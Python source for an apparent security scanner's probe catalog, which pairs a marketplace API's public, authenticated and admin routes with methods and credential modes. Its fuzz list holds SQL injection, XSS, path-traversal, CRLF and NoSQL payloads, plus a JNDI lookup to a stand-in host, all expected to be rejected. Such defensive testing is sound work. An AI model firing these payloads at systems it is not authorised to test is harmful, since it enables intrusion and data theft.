"""
Probe catalog for the marketplace API.

The catalog is the cross product of the route tables below with the HTTP
methods and credential modes each group is judged under, followed by one
anonymous POST per (fuzz fragment, fuzz target) pair. Building it is pure
and deterministic so that two scans of the same release can be diffed
probe by probe.
"""
from typing import Any, Callable, Dict, List, NamedTuple, Optional

from probescan.models.schemas import (
    Category,
    CredentialMode,
    Expectation,
    Method,
    ProbeDefinition,
)


class Route(NamedTuple):
    id: str
    title: str
    path: str


class FuzzTarget(NamedTuple):
    id: str
    title: str
    path: str
    category: Category
    body: Callable[[int, str], Dict[str, Any]]


READ_METHODS: List[Method] = ["GET", "HEAD", "OPTIONS"]
WRITE_METHODS: List[Method] = ["POST", "PUT", "PATCH", "DELETE"]

PUBLIC_READ_ROUTES: List[Route] = [
    Route("health", "API health", "/api/health"),
    Route("products-list", "Public product list", "/api/products"),
    Route("product-detail", "Public product detail", "/api/products/1"),
    Route("product-comments", "Public product comments", "/api/products/1/comments"),
    Route("vendors-list", "Public vendor list", "/api/vendors"),
    Route("vendor-products", "Public products by vendor", "/api/vendors/1/products"),
    Route("public-user", "Public seller profile", "/api/users/1"),
    Route("map-tiles", "Public map tiles", "/api/map-tiles/13/2413/3074.png"),
    Route("agent-status", "Public agent status", "/api/agent/status/templesale"),
    Route("agent-script", "Public agent script", "/api/agent/script/templesale.js"),
    Route("health-query", "API health with query", "/api/health?probe=1"),
    Route("products-query", "Public products with query", "/api/products?limit=5"),
]

PUBLIC_MUTATION_ROUTES: List[Route] = [
    Route("products", "Unexpected mutation on products", "/api/products"),
    Route("product-detail", "Unexpected mutation on product detail", "/api/products/1"),
    Route("product-comments", "Unexpected mutation on public comments", "/api/products/1/comments"),
    Route("vendors", "Unexpected mutation on public vendors", "/api/vendors"),
    Route("vendor-products", "Unexpected mutation on vendor products", "/api/vendors/1/products"),
    Route("public-user", "Unexpected mutation on public user", "/api/users/1"),
    Route("map-tiles", "Unexpected mutation on map tiles", "/api/map-tiles/13/2413/3074.png"),
    Route("health", "Unexpected mutation on API health", "/api/health"),
    Route("agent-status", "Unexpected mutation on agent status", "/api/agent/status/templesale"),
    Route("agent-script", "Unexpected mutation on agent script", "/api/agent/script/templesale.js"),
]

AUTH_READ_ROUTES: List[Route] = [
    Route("auth-me", "Authenticated user session", "/api/auth/me"),
    Route("profile-defaults", "Listing form defaults", "/api/profile/new-product-defaults"),
    Route("my-products", "My products", "/api/my-products"),
    Route("likes", "Liked products", "/api/likes"),
    Route("notifications", "User notifications", "/api/notifications"),
    Route("my-products-query", "My products with query", "/api/my-products?limit=5"),
]

AUTH_MUTATION_ROUTES: List[Route] = [
    Route("profile", "Profile update", "/api/profile"),
    Route("profile-avatar", "Avatar update", "/api/profile/avatar"),
    Route("profile-defaults", "Listing defaults update", "/api/profile/new-product-defaults"),
    Route("auth-logout", "Authenticated logout", "/api/auth/logout"),
    Route("products-create", "Authenticated product creation", "/api/products"),
    Route("product-update", "Authenticated product edit", "/api/products/1"),
    Route("product-comments", "Authenticated comment creation", "/api/products/1/comments"),
    Route("product-cart-interest", "Authenticated cart interest", "/api/products/1/cart-interest"),
    Route("product-like", "Authenticated like", "/api/products/1/like"),
    Route("product-delete", "Authenticated product removal", "/api/products/1"),
    Route("product-unlike", "Authenticated unlike", "/api/products/1/like?mode=delete"),
]

ADMIN_READ_ROUTES: List[Route] = [
    Route("admin-auth-me", "Admin session", "/api/admin/auth/me"),
    Route("admin-me", "Legacy admin session", "/api/admin/me"),
    Route("admin-root", "Admin root session", "/api/admin"),
    Route("admin-users", "Admin user list", "/api/admin/users"),
    Route("admin-user-products", "Admin products per user", "/api/admin/users/1/products"),
    Route("admin-events-a", "Security events (route A)", "/api/admin/security-test/events?limit=1"),
    Route("admin-events-b", "Security events (route B)", "/api/admin/security-tests/events?limit=1"),
    Route("admin-agent-status", "Admin agent status", "/api/admin/agent/status/templesale"),
    Route("admin-auth-alt", "Alternate admin session", "/api/admin/auth"),
    Route("admin-auth-alt-query", "Admin session with query", "/api/admin/auth?probe=1"),
]

ADMIN_MUTATION_ROUTES: List[Route] = [
    Route("admin-users-delete", "Admin user removal", "/api/admin/users/1"),
    Route("admin-products-delete", "Admin product removal", "/api/admin/products/1"),
    Route("admin-events-clear-a", "Security event purge (route A)", "/api/admin/security-test/events"),
    Route("admin-events-clear-b", "Security event purge (route B)", "/api/admin/security-tests/events"),
    Route("admin-agent-status-patch", "Admin agent status change", "/api/admin/agent/status/templesale"),
    Route("admin-auth-logout-a", "Admin auth logout", "/api/admin/auth/logout"),
    Route("admin-auth-logout-b", "Legacy admin logout", "/api/admin/logout"),
    Route("admin-auth-delete", "Admin logout via DELETE auth", "/api/admin/auth"),
    Route("admin-root-delete", "Admin logout via DELETE root", "/api/admin"),
]

FUZZING_FRAGMENTS: List[str] = [
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "${jndi:ldap://malicious.local/a}",
    "%0d%0aSet-Cookie:evil=1",
    "\"; DROP TABLE users; --",
    "{{7*7}}",
    "<img src=x onerror=alert(1)>",
    "A" * 2048,
    "\U0001F9E8" * 180,
    "\\x00\\x1f\\x7f",
    "' UNION SELECT NULL --",
    "<svg/onload=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\" OR \"1\"=\"1",
    "{\"$gt\":\"\"}",
]

FUZZ_TARGETS: List[FuzzTarget] = [
    FuzzTarget(
        "auth-login", "User login fuzzing", "/api/auth/login", "input-validation",
        lambda n, payload: {"email": f"invalid-login-{n}-{payload}", "password": f"x-{payload}"},
    ),
    FuzzTarget(
        "auth-register", "User registration fuzzing", "/api/auth/register", "input-validation",
        lambda n, payload: {
            "name": f"scanner-{n}",
            "email": f"invalid-register-{n}-{payload}",
            "password": "1",
        },
    ),
    FuzzTarget(
        "admin-login", "Admin login fuzzing", "/api/admin/login", "api-admin",
        lambda n, payload: {"email": f"invalid-admin-{n}-{payload}", "password": f"x-{payload}"},
    ),
    FuzzTarget(
        "admin-auth-login", "Alternate admin login fuzzing", "/api/admin/auth/login", "api-admin",
        lambda n, payload: {"login": f"invalid-admin-alt-{n}-{payload}", "password": f"x-{payload}"},
    ),
    FuzzTarget(
        "product-create", "Anonymous product creation fuzzing", "/api/products", "authorization",
        lambda n, payload: {
            "name": f"probe-{n}",
            "category": "Other",
            "price": payload,
            "quantity": 1,
            "description": "scan payload",
            "latitude": 0,
            "longitude": 0,
        },
    ),
    FuzzTarget(
        "product-comment", "Anonymous comment fuzzing", "/api/products/1/comments", "authorization",
        lambda n, payload: {"body": payload, "rating": 5},
    ),
]

CATEGORY_LABELS: Dict[str, str] = {
    "auth": "Authentication",
    "authorization": "Authorization",
    "headers": "Headers",
    "api-public": "Public API",
    "api-private": "Authenticated API",
    "api-admin": "Admin API",
    "input-validation": "Input validation",
    "error-handling": "Error handling",
    "monitoring": "Monitoring",
    "exposure": "Exposure",
}


def category_label(category: str) -> str:
    return CATEGORY_LABELS.get(category, "Security")


def _probe(probe_id: str, title: str, category: Category, path: str, method: Method,
           credential_mode: CredentialMode, expectation: Expectation,
           body: Optional[Dict[str, Any]] = None) -> ProbeDefinition:
    return ProbeDefinition(
        id=probe_id,
        title=title,
        category=category,
        path=path,
        method=method,
        credential_mode=credential_mode,
        expectation=expectation,
        body=body,
    )


def build_probe_catalog() -> List[ProbeDefinition]:
    probes: List[ProbeDefinition] = []

    for route in PUBLIC_READ_ROUTES:
        for method in READ_METHODS:
            m = method.lower()
            probes.append(_probe(f"public-anon-{route.id}-{m}", f"{route.title} ({method}) without login",
                                 "api-public", route.path, method, "anonymous", "no-5xx"))
            probes.append(_probe(f"public-session-{route.id}-{m}", f"{route.title} ({method}) with session",
                                 "api-public", route.path, method, "session", "no-5xx"))

    for route in PUBLIC_MUTATION_ROUTES:
        for method in WRITE_METHODS:
            probes.append(_probe(f"public-mutation-anon-{route.id}-{method.lower()}",
                                 f"{route.title} ({method}) without login",
                                 "authorization", route.path, method, "anonymous",
                                 "method-should-not-succeed"))

    for route in AUTH_READ_ROUTES:
        for method in READ_METHODS:
            m = method.lower()
            probes.append(_probe(f"auth-read-anon-{route.id}-{m}", f"{route.title} ({method}) without login",
                                 "auth", route.path, method, "anonymous", "auth-blocked"))
            probes.append(_probe(f"auth-read-session-{route.id}-{m}", f"{route.title} ({method}) with session",
                                 "api-private", route.path, method, "session", "no-5xx"))

    for route in AUTH_MUTATION_ROUTES:
        for method in WRITE_METHODS:
            probes.append(_probe(f"auth-mutation-anon-{route.id}-{method.lower()}",
                                 f"{route.title} ({method}) without login",
                                 "authorization", route.path, method, "anonymous", "auth-blocked"))

    for route in ADMIN_READ_ROUTES:
        for method in READ_METHODS:
            m = method.lower()
            probes.append(_probe(f"admin-read-anon-{route.id}-{m}", f"{route.title} ({method}) without admin",
                                 "api-admin", route.path, method, "anonymous", "admin-blocked"))
            probes.append(_probe(f"admin-read-session-{route.id}-{m}", f"{route.title} ({method}) with admin",
                                 "api-admin", route.path, method, "admin", "admin-accessible"))

    for route in ADMIN_MUTATION_ROUTES:
        for method in WRITE_METHODS:
            probes.append(_probe(f"admin-mutation-anon-{route.id}-{method.lower()}",
                                 f"{route.title} ({method}) without admin",
                                 "api-admin", route.path, method, "anonymous", "admin-blocked"))

    for n, fragment in enumerate(FUZZING_FRAGMENTS, start=1):
        for target in FUZZ_TARGETS:
            probes.append(_probe(f"fuzz-{target.id}-{n}", f"{target.title} (payload {n})",
                                 target.category, target.path, "POST", "anonymous",
                                 "reject-or-block", target.body(n, fragment)))

    return probes
